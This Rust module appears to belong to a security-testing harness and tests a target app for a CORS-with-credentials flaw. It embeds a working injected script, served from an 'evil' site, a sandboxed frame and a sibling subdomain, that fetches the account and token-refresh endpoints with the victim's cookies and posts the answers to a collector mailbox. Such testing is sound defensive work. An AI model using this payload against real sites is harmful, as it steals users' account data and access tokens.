//! Another site reads the answer.

use std::time::Duration;

use super::victim::Victim;

use crate::attack::{
    places::{EVIL, SIBLING},
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "cors-with-credentials",
    title: "Another site reads the answer",
    has: "pages at another site, in a sandboxed frame, and at a sibling subdomain",
    does: "has script ask with cookies, and reads what is answered",
    gains: "what the victim's account says, and tokens",
    source: "OWASP HTML5 Security Cheat Sheet, CORS; CWE-942; F020",
    expected: Expected::EVERYWHERE.not_careless_jwt("another site's page cannot send a token along"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let victim = Victim::new(stage).await?;
    let mailbox = stage.lab.places.mailbox();
    let [account, renewal] =
        ["/v1/account", "/v1/refresh"].map(|path| stage.target.site.url(&format!("{path}?app={}", stage.target.app)));
    let script = format!(
        "<script>for (const [to, method] of [['{account}', 'GET'], ['{renewal}', 'POST']]) \
         fetch(to, {{ method, credentials: 'include' }}).then((answer) => answer.text(), () => '').then((text) => \
         fetch('{}', {{ method: 'POST', mode: 'no-cors', body: text, referrerPolicy: 'no-referrer' }}))</script>",
        mailbox.url
    );
    let frame = format!("<iframe sandbox=allow-scripts srcdoc=\"{}\"></iframe>", script.replace('\x22', "&quot;"));
    for (host, html) in [(EVIL, &script), (EVIL, &frame), (SIBLING, &script)] {
        victim.page.open(&stage.lab.places.publish(host, html.as_str())).await?;
    }
    let hits = mailbox.wait_for(6, Duration::from_secs(10)).await;
    let read = hits.iter().find(|hit| hit.body.contains(&victim.person.email) || hit.body.contains("access_token"));
    Ok(match read {
        Some(hit) => Found::Worked(format!("a page of {} has read it", hit.header("origin"))),
        None => Found::Refused(format!("{} tries from three origins, and nothing could be read", hits.len())),
    })
}
